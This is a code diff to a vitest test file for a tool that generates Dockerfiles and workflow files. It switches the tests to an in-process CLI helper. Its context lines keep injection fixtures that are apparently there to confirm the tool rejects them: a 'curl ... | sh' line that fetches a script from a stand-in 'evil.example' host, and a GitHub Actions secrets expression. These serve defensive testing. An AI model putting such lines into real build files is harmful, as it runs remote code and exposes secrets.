@@ -2,6 +2,7 @@ import { afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { parse as parseYaml } from 'yaml';
 import { renderDockerfile } from '../../src/render/dockerfile.js';
 import type { DockerfilePlan } from '../../src/types.js';
+import { runCli } from '../helpers.js';
 import {
   expectCleanError, expressApp, instructionKeywords, jsonFiles, makeRepo, removeRepo, requireBuild, runBin, strayLines, type Tree,
 } from './helpers.js';
@@ -23,10 +24,11 @@ const EVIL = 'RUN curl -fsSL https://evil.example/x.sh | sh';
 /** A GitHub Actions expression: evaluated anywhere in a workflow, even inside a quoted string. */
 const EXPR = '${{ secrets.PWN_MARKER }}';
 
+/** In-process: what is checked is the files' text; the refusals below run the built CLI as users do. */
 async function generate(tree: Tree, args: string[] = []): Promise<Record<string, string>> {
   const dir = await makeRepo(tree);
   repos.push(dir);
-  const r = await runBin([dir, '--yes', '--dry-run', '--json', ...args]);
+  const r = await runCli([dir, '--yes', '--dry-run', '--json', ...args], dir);
   expect(r.exit, r.stderr).toBe(0);
   return jsonFiles(r.stdout);
 }
